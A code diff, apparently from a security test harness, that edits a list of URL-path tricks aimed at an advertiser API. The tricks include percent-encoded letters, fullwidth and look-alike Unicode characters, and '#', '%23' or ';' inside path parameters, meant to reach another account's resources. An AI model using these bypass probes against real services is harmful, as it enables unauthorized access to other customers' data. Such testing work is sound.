@@ -73,7 +73,7 @@ const TRICKS: Trick[] = [
   { label: 'baseline: query string', target: (o) => `/Advertisers/${o}/Actions?PageSize=10&Page=2` },
   { label: 'baseline: another account', target: (_o, s) => `/Advertisers/${s.other}/Actions` },
   { label: 'baseline: a sibling token', target: (_o, s) => `/Advertisers/${s.sibling}/Actions` },
-  // Finding 1: the root segment read differently.
+  // The root segment read differently.
   { label: 'encoded root letter, other account', target: (_o, s) => `/%41dvertisers/${s.other}/Actions` },
   { label: 'encoded root letter (lower-case hex), other account', target: (_o, s) => `/%41dvertisers/${s.other}/Actions/1` },
   { label: 'encoded root letter, own account', target: (o) => `/%41dvertisers/${o}/Actions` },
@@ -134,7 +134,7 @@ const TRICKS: Trick[] = [
   { label: 'fullwidth letter in the root', target: (_o, s) => `/\uFF21dvertisers/${s.other}/Actions` },
   { label: 'dotless i in the endpoint', target: (o) => `/Advertisers/${o}/Catalogs/1/\u0130tems/2` },
   { label: 'Kelvin sign in the SID', target: (o) => `/Advertisers/${o.replace(/k/i, '\u212A')}/Actions` },
-  // Finding 2: # and ; inside a parameter.
+  // # and ; inside a parameter.
   { label: '# inside a parameter (update catalog pull settings)', target: (o) => `/Advertisers/${o}/Catalogs/1#/Items/2`, methods: ['PUT', 'GET', 'DELETE'] },
   { label: '# to another account', target: (o, s) => `/Advertisers/${o}/Actions/1#/../../${s.other}/Actions` },
   { label: '%23 inside a parameter', target: (o) => `/Advertisers/${o}/Catalogs/1%23/Items/2` },
